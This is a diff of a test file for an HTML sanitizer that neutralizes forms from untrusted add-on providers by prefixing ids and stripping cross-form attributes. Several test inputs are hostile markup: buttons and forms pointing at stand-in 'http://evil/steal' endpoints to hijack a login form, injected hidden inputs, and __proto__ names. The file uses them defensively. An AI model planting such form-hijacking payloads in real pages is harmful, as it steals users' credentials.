@@ -1,6 +1,9 @@
 import { describe, expect, test } from 'vitest';
 import { formContent } from '../../src/component/form.js';
+import { idPrefix } from '../../src/component/form-reach.js';
 import { serialize } from '../../src/html/serialize.js';
+
+const untrusted = { provider: 'p', form: 'f', trusted: false };
 
 const deep = (levels: number) => '<div>'.repeat(levels);
 const repeated = (bs: number, ps: number) =>
@@ -30,7 +33,7 @@ describe("a provider's form", () => {
       'HTML of a form whose controls stand outside it, as in a table',
     ],
   ])('that is %s is refused with the reason', (_what, markup, reason) => {
-    expect(formContent(markup, { trusted: false })).toBe(reason);
+    expect(formContent(markup, untrusted)).toBe(reason);
   });
 
   test.each([
@@ -58,9 +61,102 @@ describe("a provider's form", () => {
       false,
       '<b>a</b><form><input name="a"></form>',
     ],
-    ['<form name=cookie id=f><input>', false, '<form id="f"><input></form>'],
+    ['<form name=cookie id=f><input>', false, '<form id="x-addon-p-f-f"><input></form>'],
   ])('%s (trusted: %s) is written as %s', (markup, trusted, expected) => {
-    const content = formContent(markup, { trusted });
-    expect(typeof content === 'string' ? content : serialize({ type: 'root', children: content })).toBe(expected);
+    expect(written(markup, { ...untrusted, trusted })).toBe(expected);
   });
 });
+
+/** What is written, each thing that was left out, and each name that is told. */
+describe('the form of a provider that is not trusted', () => {
+  test.each([
+    // The two that took over an author's form, as an attacker found them.
+    [
+      '<button form="login" formaction="http://evil/steal" formmethod="get">x</button>',
+      '<button>x</button>',
+      [
+        '`form` of `button` outside a form, `formaction` of `button` outside a form, `formmethod` of `button` outside a form',
+      ],
+    ],
+    [
+      '<input type="hidden" form="login" name="next">',
+      '<input type="hidden">',
+      ['`form` of `input` outside a form, `name` of `input` outside a form'],
+    ],
+    // A form of its own id before the author's takes the author's controls that name it.
+    [
+      '<form id="login" action="http://evil/"><input></form>',
+      '<form id="x-addon-p-f-login" action="http://evil/"><input></form>',
+      [],
+    ],
+    [
+      '<form id=a><input id=b form=a></form><input form=a name=c><label for=b>d</label>',
+      '<form id="x-addon-p-f-a"><input id="x-addon-p-f-b" form="x-addon-p-f-a"></form>' +
+        '<input form="x-addon-p-f-a" name="c"><label for="x-addon-p-f-b">d</label>',
+      [],
+    ],
+    // The id stands for the `div`, so the control would belong to no form.
+    [
+      '<div id=a>x</div><form id=a><input form=a></form>',
+      '<div id="x-addon-p-f-a">x</div><form id="x-addon-p-f-a"><input></form>',
+      ['`form` of `input`'],
+    ],
+    [
+      '<p id="a  b" aria-details="c\td" aria-owns=c>x</p><input list=z><td headers=y>',
+      '<p id="x-addon-p-f-a x-addon-p-f-b" aria-details="x-addon-p-f-c x-addon-p-f-d" aria-owns="x-addon-p-f-c">x</p>' +
+        '<input list="x-addon-p-f-z">',
+      [],
+    ],
+    [
+      '<a id=a href=#a>x</a><a href=#top>y</a>',
+      '<a id="x-addon-p-f-a" href="#x-addon-p-f-a">x</a><a href="#top">y</a>',
+      [],
+    ],
+    [
+      '<form target=payment method=dialog rel="opener me"><a target=_BLANK rel=noopener>x</a></form>',
+      '<form><a target="_BLANK" rel="noopener">x</a></form>',
+      ['`target` of `form`, `method` of `form`, `rel` of `form`'],
+    ],
+    ['<input type=radio name=plan checked>', '<input type="radio" checked>', ['`name` of `input` outside a form']],
+    [
+      '<form><input name=submit><select name=__proto__></select></form>',
+      '<form><input name="submit"><select name="__proto__"></select></form>',
+      ['`submit`, `__proto__`'],
+    ],
+  ])('%s is written as %s', (markup, expected, told) => {
+    expect(written(markup, untrusted)).toBe(expected);
+    const content = formContent(markup, untrusted);
+    const messages = typeof content === 'string' ? [content] : content.notes.map(({ message }) => message);
+    expect(messages).toEqual(told.map((what) => expect.stringContaining(`${what}`)));
+    expect(messages).toHaveLength(told.length);
+  });
+
+  test('has ids that say whose they are, in characters that every list of ids can hold', () => {
+    expect(idPrefix({ provider: 'provider_é form', form: '7 "a" 😀' })).toBe('x-addon-provider___form-7__a___-');
+  });
+});
+
+describe('white space in what a provider writes', () => {
+  // Only these separate tokens in HTML; JavaScript and PHP know others.
+  const ascii = ['\t', '\n', '\f', ' '];
+  const others = [...'\v\u0085\u00a0\u1680\u2003\u2028\u2029\u202f\u3000\ufeff'];
+  test.each([
+    ...ascii.map((space) => [space, '<b class="a b">x</b>']),
+    ...others.map((space) => [space, `<b class="${space}a${space}b${space}">x</b>`]),
+    ['\ud800', '<b class="\ufffda\ufffdb\ufffd">x</b>'],
+  ])('%j separates classes as the standard says', (space, expected) => {
+    expect(written(`<b class="${space}a${space}b${space}">x</b>`, untrusted)).toBe(expected);
+    expect(written(`<b class="${space}a${space}b${space}">x</b>`, { ...untrusted, trusted: true })).toBe(expected);
+  });
+
+  test('leaves a value that is no list and no number as it is', () => {
+    expect(written('<input tabindex=" " size="\u00a05" value="\u00a0">', untrusted)).toBe(
+      '<input tabindex=" " size="\u00a05" value="\u00a0">',
+    );
+  });
+});
+
+function written(markup: string, name: typeof untrusted): string {
+  const content = formContent(markup, name);
+  return typeof content === 'string' ? content : serialize({ type: 'root', children: content.nodes });
+}
